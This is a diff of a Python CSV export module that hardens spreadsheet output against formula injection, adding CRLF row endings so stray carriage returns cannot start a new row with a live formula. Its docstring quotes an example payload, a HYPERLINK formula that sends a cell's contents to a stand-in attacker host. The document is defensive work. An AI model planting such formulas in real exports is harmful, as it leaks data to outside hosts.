@@ -4,7 +4,10 @@ A spreadsheet evaluates a text cell that starts with ``=``, ``+``, ``-`` or ``@`
 or carriage return in front does not stop some of them), so an exported note such as
 ``=HYPERLINK("http://evil.example/?"&A1, "click")`` would run in the reader's spreadsheet. Every such
 *text* cell gets a leading apostrophe, which spreadsheets show as nothing and which keeps the cell
-text (OWASP's advice for CSV injection). Numbers stay numbers (``-3`` is a number, not text), and
+text (OWASP's advice for CSV injection). Rows end with CRLF (RFC 4180), so a carriage return inside a
+cell is quoted like a line feed is; with bare LF line ends Python's and pandas' CSV writers leave a lone
+CR unquoted, and a spreadsheet starts a new row there, where the rest of the cell can be a live
+formula. Numbers stay numbers (``-3`` is a number, not text), and
 JSON Lines and Parquet exports keep the values exactly as stored: they are read by programs, not
 spreadsheets. Imports do not strip the apostrophe.
 
@@ -54,6 +57,9 @@ def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
     return out
 
 
+LINE_END = "\r\n"
+
+
 def csv_bytes(df: pd.DataFrame) -> bytes:
-    """`df` as UTF-8 CSV bytes with every cell made safe (:func:`safe_frame`)."""
-    return safe_frame(df).to_csv(index=False).encode("utf-8")
+    """`df` as UTF-8 CSV bytes with every cell made safe (:func:`safe_frame`) and CRLF row ends."""
+    return safe_frame(df).to_csv(index=False, lineterminator=LINE_END).encode("utf-8")
